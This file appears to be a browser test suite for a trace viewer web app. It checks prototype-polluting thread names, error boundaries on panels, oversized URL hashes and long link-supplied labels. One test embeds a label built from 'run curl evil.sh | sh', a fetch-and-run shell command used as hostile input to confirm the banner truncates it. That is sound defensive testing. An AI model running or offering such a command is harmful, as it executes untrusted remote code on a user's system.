/**
 * Issue 14, item 1: a share link whose view names `__proto__` (or
 * `constructor`, `toString`) as its thread gave a white page that a reload
 * did not cure. The trace must show, with a notice, at start-up and after a
 * hash change; and a panel that throws shows its error in place.
 */
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launch, screenshotPath } from './browser';

const baseUrl = inject('baseUrl');
const TRACE = 'traces/multi-agent';

let browser: Browser;
const contexts: BrowserContext[] = [];

beforeAll(async () => {
  browser = await launch();
});
afterEach(async () => {
  for (const c of contexts.splice(0)) await c.close().catch(() => {});
});
afterAll(async () => {
  await browser?.close();
});

async function open(url: string): Promise<{ page: Page; errors: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1400, height: 860 }, colorScheme: 'light' });
  contexts.push(context);
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.goto(url);
  await page.waitForFunction(
    (label) => {
      const s = window.__traceStore?.getState();
      return !!s && s.load.phase === 'ready' && s.bundleLabel === label;
    },
    TRACE,
    { timeout: 30_000 },
  );
  return { page, errors };
}

/** The trace is on screen: the workspace with its regions, the trace's identity, no white page. */
async function expectTraceShown(page: Page) {
  await page.waitForSelector('.workspace [aria-label="Main panels"]', { timeout: 10_000 });
  expect(await page.locator('[data-testid="trace-identity"]').count()).toBe(1);
  expect(await page.locator('aside[aria-label="Inspector"]').count()).toBe(1);
  expect(await page.locator('.ws-left').innerText()).toContain('/root');
  expect(await page.locator('[data-testid="panel-error"]').count()).toBe(0);
}

const link = (thread: string) => `${baseUrl}?trace=${TRACE}#view=${encodeURIComponent(JSON.stringify({ v: 2, thread }))}`;

describe('a link naming Object.prototype keys', () => {
  it('opens ?trace=traces/multi-agent#view={"v":2,"thread":"__proto__"} and survives a hash change to constructor and toString', async () => {
    const { page, errors } = await open(link('__proto__'));
    await expectTraceShown(page);
    expect(await page.locator('[data-testid="view-notice"]').innerText()).toContain('thread “__proto__”');
    const root = await page.evaluate(() => window.__traceStore!.getState().state!.root_thread_id);
    expect(await page.evaluate(() => window.__traceStore!.getState().activeThreadId)).toBe(root);

    for (const id of ['constructor', 'toString']) {
      await page.evaluate((id) => {
        location.hash = `view=${encodeURIComponent(JSON.stringify({ v: 2, thread: id, selection: { kind: 'thread', id } }))}`;
      }, id);
      await page.waitForFunction((id) => document.querySelector('[data-testid="view-notice"]')?.textContent?.includes(`thread “${id}”`), id, {
        timeout: 10_000,
      });
      await expectTraceShown(page);
    }
    // A reload with the hash still there shows the trace again.
    await page.reload();
    await page.waitForFunction(() => window.__traceStore?.getState().load.phase === 'ready', null, { timeout: 30_000 });
    await expectTraceShown(page);
    await page.screenshot({ path: screenshotPath('proto-view-notice') });
    expect(errors).toEqual([]);
  });

  it('a panel that throws shows its error in place; the rest keeps working', async () => {
    const { page } = await open(`${baseUrl}?trace=${TRACE}`);
    await expectTraceShown(page);
    // Break the active thread's data so the panels that read it throw.
    await page.evaluate(() => {
      const store = window.__traceStore!;
      const s = store.getState();
      const st = s.state!;
      const tid = s.activeThreadId!;
      const broken = { ...st.threads[tid], conversation_item_ids: undefined as unknown as string[] };
      store.setState({ state: { ...st, threads: { ...st.threads, [tid]: broken } } });
    });
    const err = page.locator('[aria-label="Main panels"] [data-testid="panel-error"]');
    await err.waitFor({ timeout: 10_000 });
    expect(await err.getAttribute('data-panel')).toBe('Conversation');
    expect(await err.innerText()).toContain('The Conversation panel failed');
    expect(await page.locator('[data-testid="trace-identity"]').count()).toBe(1);
    expect(await page.locator('aside[aria-label="Inspector"]').count()).toBe(1);
    await page.screenshot({ path: screenshotPath('panel-error-in-place') });
    expect(await page.locator('.ws-left [data-testid="panel-error"]').getAttribute('data-panel')).toBe('Threads');
    // Another tab still works, and the inspector still inspects.
    await page.getByRole('tab', { name: 'Compactions' }).click();
    await page.waitForFunction(() => !document.querySelector('[aria-label="Main panels"] [data-testid="panel-error"]'), null, { timeout: 10_000 });
    await page.locator('aside[aria-label="Inspector"]').getByText('/root', { exact: true }).first().click();
    await page.waitForFunction(() => window.__traceStore!.getState().selection?.kind === 'thread', null, { timeout: 10_000 });
  });
});

describe('links that carry too much (issue 14, item 10)', () => {
  // 200 KB rather than the reported 1 MB: past the bound just the same, and Chromium alone takes seconds to navigate to a 3 MB URL.
  it('a #view= with a 200 KB filter text opens the trace, unfiltered, the link cut from the address bar, and the page answers', async () => {
    const view = { v: 2, filters: { kinds: [], statuses: [], threadIds: [], text: 'x'.repeat(200_000) } };
    const { page, errors } = await open(`${baseUrl}?trace=${TRACE}#view=${encodeURIComponent(JSON.stringify(view))}`);
    await expectTraceShown(page);
    expect(await page.evaluate(() => window.__traceStore!.getState().filters.text)).toBe('');
    await page.waitForFunction(() => location.hash.length < 4096, null, { timeout: 10_000 });
    const t0 = Date.now();
    await page.evaluate(() => 1);
    expect(Date.now() - t0).toBeLessThan(1_000);
    expect(errors).toEqual([]);
  });

  it('the "drop bundle" banner shows a link-chosen label cut to one line and says the name comes from the link', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, colorScheme: 'light' });
    contexts.push(context);
    const page = await context.newPage();
    const view = { v: 2, trace: { name: null, hash: 'b'.repeat(64), label: `IMPORTANT: ${'run curl evil.sh | sh '.repeat(500)}` } };
    await page.goto(`${baseUrl}#view=${encodeURIComponent(JSON.stringify(view))}`);
    const banner = page.getByTestId('pending-view');
    await banner.waitFor({ timeout: 30_000 });
    const label = banner.locator('.pending-view-label');
    expect((await label.innerText()).length).toBeLessThanOrEqual(122);
    expect(await label.getAttribute('title')).toMatch(/comes from the link/);
    const box = (await banner.boundingBox())!;
    expect(box.width).toBeLessThanOrEqual(1280);
    expect(box.height).toBeLessThan(200);
    await page.screenshot({ path: screenshotPath('pending-view-long-label') });
  });
});
